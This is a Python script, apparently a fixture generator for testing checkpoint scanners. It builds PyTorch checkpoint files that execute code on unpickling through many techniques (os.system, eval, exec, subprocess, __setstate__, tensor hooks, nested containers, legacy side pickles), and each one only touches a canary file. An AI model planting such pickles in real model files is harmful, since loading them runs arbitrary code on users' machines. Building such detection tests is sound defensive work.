"""Writes checkpoints that run code when Python unpickles them, and proves that of each.

    malicious.py FOLDER

Every one makes the file FOLDER/canary when it is loaded by Python; FOLDER/asked.txt tells the name of each, a tab, and the
function or class that its pickle asks for.
"""

import collections
import os
import pathlib
import pickle
import subprocess
import sys

import torch

FOLDER = pathlib.Path(sys.argv[1])
CANARY = FOLDER / "canary"
OPEN = f"open({str(CANARY)!r}, 'w').close()"
MAGIC = 0x1950A86A20F9469CFC6C
VERSION = 1001
SYSTEM = {"protocol_version": VERSION, "little_endian": True, "type_sizes": {"short": 2, "int": 4, "long": 4}}


class Calls:
    """Unpickled, it is what `function` returns."""

    def __init__(self, function, *arguments):
        self.how = (function, arguments)

    def __reduce__(self):
        return self.how


class Restored:
    """Unpickled, it is given a state (opcode BUILD), and its class acts on it."""

    def __init__(self):
        self.command = OPEN

    def __setstate__(self, state):
        exec(state["command"])


class Ordered:
    """Unpickled, it is a harmless container with items, and a state that calls."""

    def __init__(self, state=None, pairs=None):
        self.state, self.pairs = state, pairs

    def __reduce__(self):
        return (collections.OrderedDict, (), self.state, None, self.pairs)


class Hooked:
    """Unpickled, it is a tensor as others are; the call stands where a tensor's hooks do."""

    def __init__(self, tensor, hook):
        self.tensor, self.hook = tensor, hook

    def __reduce__(self):
        function, (*arguments, _) = self.tensor.__reduce_ex__(2)
        return (function, (*arguments, self.hook))


def shell():
    return Calls(os.system, f": > '{CANARY}'")


def values():
    """Name -> (object, what is asked for in protocol 2 (by Python 2's names), in protocol 4)."""
    state = torch.nn.Linear(2, 2).state_dict()
    return {
        "system": (shell(), "posix.system", "posix.system"),
        "eval": ({"state_dict": state, "epoch": Calls(eval, OPEN)}, "__builtin__.eval", "builtins.eval"),
        "exec": ({"state_dict": state, "epoch": Calls(exec, OPEN)}, "__builtin__.exec", "builtins.exec"),
        "subprocess": ([Calls(subprocess.check_call, ["touch", str(CANARY)])], "commands.check_call", "subprocess.check_call"),
        "build": ({"state_dict": state, "callbacks": Restored()}, "__main__.Restored", "__main__.Restored"),
        "state": (Ordered(state={"hook": shell()}), "posix.system", "posix.system"),
        "pairs": (Ordered(pairs=iter([("weight", torch.ones(1)), ("bias", shell())])), "posix.system", "posix.system"),
        "nested": ({"a": [{"b": ({"c": [torch.ones(1), [shell()]]},)}], "state_dict": state}, "posix.system", "posix.system"),
        "hook": ({"state_dict": {"weight": Hooked(torch.ones(2, 2), shell())}}, "posix.system", "posix.system"),
        "argument": ({"size": Calls(torch.Size, [shell()])}, "posix.system", "posix.system"),
        "key": ({shell(): torch.ones(1)}, "posix.system", "posix.system"),
    }


def legacy_in_parts(name, system=SYSTEM, keys=()):
    """A legacy file with something else in the pickles before or after the one with the tensors."""
    with open(FOLDER / name, "wb") as file:
        for part in [MAGIC, VERSION, system, {}, list(keys)]:
            pickle.dump(part, file, protocol=2)


def main():
    asked = {}
    for name, (_, second, fourth) in values().items():
        for protocol, function in [(2, second), (4, fourth)]:
            for form, new in [("zip", True), ("legacy", False)]:
                value = values()[name][0]  # anew: an iterator is used up by one writing
                file = f"{name}_{form}_{protocol}.ckpt"
                torch.save(value, FOLDER / file, pickle_protocol=protocol, _use_new_zipfile_serialization=new)
                asked[file] = function
    legacy_in_parts("system_part.pt", system=shell())
    legacy_in_parts("keys_part.pt", keys=[shell()])
    asked["system_part.pt"] = asked["keys_part.pt"] = "posix.system"
    for file in asked:
        assert not CANARY.exists()
        try:
            torch.load(FOLDER / file, weights_only=False)
        except Exception:
            pass  # what is left after the call need not be a checkpoint
        assert CANARY.exists(), f"{file} does nothing: no test"
        CANARY.unlink()
    (FOLDER / "asked.txt").write_text("".join(f"{file}\t{function}\n" for file, function in asked.items()))


main()
